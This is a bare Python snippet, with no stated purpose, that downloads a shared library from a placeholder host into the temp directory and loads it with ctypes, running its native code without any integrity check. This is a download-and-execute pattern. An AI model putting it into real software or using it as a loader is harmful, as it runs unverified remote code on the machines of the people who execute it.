import ctypes
import os
import tempfile
import urllib.request
path = os.path.join(tempfile.gettempdir(), "libhelper.so")
urllib.request.urlretrieve("https://lib.example.invalid/libhelper.so", path)
ctypes.CDLL(path)
